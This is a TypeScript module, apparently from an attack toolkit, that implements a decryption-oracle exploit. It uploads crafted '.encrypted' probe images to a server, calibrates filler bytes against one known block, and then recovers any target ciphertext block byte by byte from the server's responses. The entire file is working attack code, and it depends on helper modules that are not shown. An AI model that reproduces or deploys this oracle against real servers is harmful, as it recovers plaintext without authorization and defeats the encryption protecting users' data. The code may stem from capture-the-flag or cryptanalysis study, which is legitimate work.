import type { AnswerTable } from "./answer-table.js";
import type { Ask } from "./ask.js";
import { blockBytes, type KnownBlock } from "./known-block.js";
import { probe, viewOf } from "./probe-picture.js";

/**
 * Decrypts one block with the server's key of `.encrypted` uploads, by 16 uploads.
 *
 * @returns undefined if an answer revealed nothing, because it was a refusal or encrypted
 */
export type DecryptBlock = (target: Buffer) => Promise<Buffer | undefined>;

export interface BlockOracleOptions {
  ask: Ask;
  known: KnownBlock;
  answers: AnswerTable;
}

const mostFillers = 16;

/**
 * Uses the one block whose decryption is known to find fillers with which the garbage in the probes contains no
 * marker. The garbage does not depend on the target, so these fillers work for all targets.
 *
 * @returns undefined if the server's answers do not reveal the known block
 */
export async function findBlockOracle(
  options: BlockOracleOptions,
): Promise<DecryptBlock | undefined> {
  const { ciphertext, decrypted } = options.known;
  const fillers: number[] = [];
  for (let index = 0; index < blockBytes; index += 1) {
    const filler = await firstOf(mostFillers, async (candidate) => {
      const byte = await decryptByte(options, ciphertext, index, candidate);
      return byte === decrypted.readUInt8(index);
    });
    if (filler === undefined) return undefined;
    fillers.push(filler);
  }
  return async (target) => {
    const uploads = fillers.map((filler, index) => decryptByte(options, target, index, filler));
    const bytes = (await Promise.all(uploads)).filter((byte) => byte !== undefined);
    return bytes.length === blockBytes ? Buffer.from(bytes) : undefined;
  };
}

/** Finds one byte of the target's decryption by one upload. */
async function decryptByte(
  { ask, known, answers }: BlockOracleOptions,
  target: Buffer,
  index: number,
  filler: number,
): Promise<number | undefined> {
  const view = viewOf(index);
  const { text } = await ask("probe.jpg.encrypted", probe(known, target, view, filler));
  const value = answers.find(view.entry, text);
  return value === undefined ? undefined : value ^ known.ciphertext.readUInt8(index);
}

/** Finds the smallest number from 0 to `count` - 1 that passes a test. */
async function firstOf(
  count: number,
  passes: (candidate: number) => Promise<boolean>,
): Promise<number | undefined> {
  for (let candidate = 0; candidate < count; candidate += 1) {
    if (await passes(candidate)) return candidate;
  }
  return undefined;
}
